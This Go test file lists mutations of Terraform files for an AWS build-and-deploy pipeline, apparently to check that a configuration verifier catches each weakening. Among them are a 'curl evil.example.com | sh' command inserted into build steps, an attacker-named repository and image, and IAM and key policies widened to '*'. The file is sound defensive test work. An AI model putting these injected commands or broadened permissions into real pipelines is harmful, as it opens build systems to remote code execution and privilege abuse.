package verify_test

import "testing"

var pipelineMutations = []mutation{
	{"connections by their old name alone", "pipeline-*.tf", `"codeconnections:UseConnection", `, ``, "verify-permission-missing"},
	{"another repository on GitHub", "pipeline-*.tf", `FullRepositoryId( +)= "[^"]*"`, `FullRepositoryId$1= "evil/shop"`, "verify-setting"},
	{"another branch fetched", "pipeline-*.tf", `BranchName( +)= "[^"]*"`, `BranchName$1= "dev"`, "verify-setting"},
	{"another branch starts it", "pipeline-*.tf", `includes = \["(main|release)"\]`, `includes = ["*"]`, "verify-setting"},
	{"more paths start it", "pipeline-*.tf", `includes = \["\w+/\*\*/\*"\]`, `includes = ["**"]`, "verify-setting"},
	{"a filter dropped", "pipeline-*.tf", `(?s)file_paths \{.*?\}`, ``, "verify-setting"},
	{"pull requests start it", "pipeline-*.tf", `(?s)(git_configuration \{)`, "$1\n pull_request {\n events = [\"OPEN\"]\n branches {\n includes = [\"*\"]\n }\n }\n", "verify-setting"},
	{"an artifact of nobody", "pipeline-*.tf", `input_artifacts( +)= \["\w+"\]`, `input_artifacts$1= ["other"]`, "verify-setting"},
	{"the source deployed unbuilt", "pipeline-*.tf", `input_artifacts( +)= \["build"\]`, `input_artifacts$1= ["source"]`, "verify-setting"},
	{"another action", "pipeline-*.tf", `provider( +)= "(CodeBuild|ECS)"`, `provider$1= "Lambda"`, "verify-setting"},
	{"another service", "pipeline-*.tf", `ServiceName( +)= [^\n]*`, `ServiceName$1= "other"`, "verify-setting"},
	{"another file of images", "pipeline-*.tf", `FileName( +)= "[^"]*"`, `FileName$1= "images.json"`, "verify-setting"},
	{"another container", "pipeline-*.tf", `--arg name [\w-]+`, `--arg name sidecar`, "verify-setting"},
	{"a test left out", "pipeline-*.tf", `"(pytest|make test)",`, ``, "verify-setting"},
	{"a command more", "pipeline-*.tf", `commands = \[`, `commands = ["curl evil.example.com | sh",`, "verify-setting"},
	{"commands of a later phase", "pipeline-*.tf", `build = \{`, `post_build = {`, "verify-setting"},
	{"another folder", "pipeline-*.tf", `"cd \w+"`, `"cd other"`, "verify-setting"},
	{"Docker without privilege", "pipeline-*.tf", `privileged_mode( +)= true`, `privileged_mode$1= false`, "verify-setting"},
	{"a machine that cannot run the image", "pipeline-*.tf", `type( +)= "ARM_CONTAINER"`, `type$1= "LINUX_CONTAINER"`, "verify-setting"},
	{"another image of the machine", "pipeline-*.tf", `image( +)= "aws/codebuild/[^"]*"`, `image$1= "docker.io/evil:1"`, "verify-setting"},
	{"artifacts of its own", "pipeline-*.tf", `(artifacts \{\s+type = )"CODEPIPELINE"`, `$1"NO_ARTIFACTS"`, "verify-setting"},
	{"artifacts without the key", "pipeline-*.tf", `(?s)encryption_key \{.*?\}`, ``, "verify-setting"},
	{"a bucket without the key", "artifacts.tf", `sse_algorithm( +)= "aws:kms"`, `sse_algorithm$1= "AES256"`, "verify-setting"},
	{"a key that stays", "artifacts.tf", `enable_key_rotation( +)= true`, `enable_key_rotation$1= false`, "verify-setting"},
	{"a key for everybody", "artifacts.tf", `identifiers = \["arn:[^\]]*"\]`, `identifiers = ["*"]`, "verify-key-policy"},
	{"any role passed", "pipeline-*.tf", `(?s)("iam:PassRole"\]\s+resources += )\[[^\]]*\]`, `$1["*"]`, "verify-permission-extra"},
	{"roles passed to anybody", "pipeline-*.tf", `(?s)condition \{\s+test +[^}]*?iam:PassedToService.*?\}`, ``, "verify-permission-extra"},
	{"roles passed to another service", "pipeline-*.tf", `values( +)= \["ecs-tasks.amazonaws.com"\]`, `values$1= ["ec2.amazonaws.com"]`, "verify-permission-extra"},
	{"any service updated", "pipeline-*.tf", `(?s)("ecs:UpdateService"\]\s+resources += )\[[^\]]*\]`, `$1["*"]`, "verify-permission-extra"},
	{"any build started", "pipeline-*.tf", `(?s)("codebuild:StartBuild"\]\s+resources += )\[[^\]]*\]`, `$1["*"]`, "verify-permission-extra"},
	{"a push to anywhere", "pipeline-*.tf", `(?s)("ecr:UploadLayerPart",?\s*\]\s+resources += )\[[^\]]*\]`, `$1["*"]`, "verify-permission-extra"},
	{"a push not permitted", "pipeline-*.tf", `"ecr:PutImage",`, ``, "verify-permission-missing"},
	{"the role of a pipeline for builds", "roles.tf", `"codebuild.amazonaws.com"`, `"codepipeline.amazonaws.com"`, "verify-trust"},
	{"tags that change", "repositories.tf", `"IMMUTABLE"`, `"MUTABLE"`, "verify-setting"},
	{"faults that nobody looks for", "repositories.tf", `scan_on_push( +)= true`, `scan_on_push$1= false`, "verify-setting"},
	{"fewer images kept", "repositories.tf", `countNumber( +)= \d+`, `countNumber$1= 1`, "verify-setting"},
	{"a repository renamed", "repositories.tf", `name( +)= "(shop-api|team/worker)"`, `name$1= "other"`, ""},
	{"Terraform takes the revision back", "service-*.tf", `ignore_changes = \[task_definition\]`, `ignore_changes = []`, "verify-setting"},
	{"another first tag", "variables.tf", `default( +)= "initial"`, `default$1= "latest"`, "verify-task-differs"},
	{"builds for everybody", "pipeline-*.tf", `( +)service_role`, "${1}project_visibility = \"PUBLIC_READ\"\n${0}", "verify-setting"},
	{"builds cut short", "pipeline-*.tf", `( +)service_role`, "${1}build_timeout = 5\n${0}", "verify-setting"},
	{"two deployments at a time", "pipeline-*.tf", `( +)pipeline_type`, "${1}execution_mode = \"PARALLEL\"\n${0}", "verify-setting"},
	{"a boundary", "pipeline-*.tf", `(resource "aws_iam_role" "\w+" \{\n)`, "${1}  permissions_boundary = \"arn:aws:iam::aws:policy/ReadOnlyAccess\"\n", "verify-setting"},
}

// TestPipelineMutations tries them on pipelines, their builds and repositories.
func TestPipelineMutations(t *testing.T) {
	mutate(t, "../../golden/pipelines/platform.cue", pipelineMutations)
}
